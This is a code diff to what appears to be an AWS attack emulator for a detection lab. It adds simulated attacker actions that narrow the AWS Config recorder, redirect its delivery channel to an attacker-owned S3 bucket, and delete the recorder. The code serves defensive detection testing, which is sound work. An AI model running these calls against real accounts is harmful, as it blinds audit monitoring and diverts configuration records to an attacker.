@@ -3,7 +3,7 @@
 
 use crate::{ALARM, FLOW_LOG_GROUP, HOME_REGION, LOG_GROUP, LabAccount, LabError, METRIC_FILTER};
 use trailwarden_aws::AccountConfig;
-use trailwarden_aws::sdk::{cloudtrail, guardduty, s3};
+use trailwarden_aws::sdk::{cloudtrail, config, guardduty, s3};
 use trailwarden_moto::Fault;
 
 /// What an attack did, and the answers the emulator must give that moto cannot (operations it
@@ -627,6 +627,68 @@ pub async fn perform(
                 attacker
                     .config(HOME_REGION)
                     .stop_configuration_recorder()
+                    .configuration_recorder_name("default")
+                    .send()
+            );
+        }
+        "narrow-config-recorder" => {
+            call!(
+                a,
+                "PutConfigurationRecorder",
+                attacker
+                    .config(HOME_REGION)
+                    .put_configuration_recorder()
+                    .configuration_recorder(
+                        config::types::ConfigurationRecorder::builder()
+                            .name("default")
+                            .role_arn(format!("arn:aws:iam::{a}:role/aws-config"))
+                            .recording_group(
+                                config::types::RecordingGroup::builder()
+                                    .all_supported(false)
+                                    .include_global_resource_types(false)
+                                    .resource_types(config::types::ResourceType::Instance)
+                                    .recording_strategy(
+                                        config::types::RecordingStrategy::builder()
+                                            .use_only(
+                                                config::types::RecordingStrategyType::InclusionByResourceTypes
+                                            )
+                                            .build()
+                                    )
+                                    .build()
+                            )
+                            .build()
+                    )
+                    .send()
+            );
+        }
+        "redirect-config-channel" => {
+            call!(
+                a,
+                "CreateBucket",
+                s3c.create_bucket().bucket(&attacker_bucket).send()
+            );
+            call!(
+                a,
+                "PutDeliveryChannel",
+                attacker
+                    .config(HOME_REGION)
+                    .put_delivery_channel()
+                    .delivery_channel(
+                        config::types::DeliveryChannel::builder()
+                            .name("default")
+                            .s3_bucket_name(&attacker_bucket)
+                            .build()
+                    )
+                    .send()
+            );
+        }
+        "delete-config-recorder" => {
+            call!(
+                a,
+                "DeleteConfigurationRecorder",
+                attacker
+                    .config(HOME_REGION)
+                    .delete_configuration_recorder()
                     .configuration_recorder_name("default")
                     .send()
             );
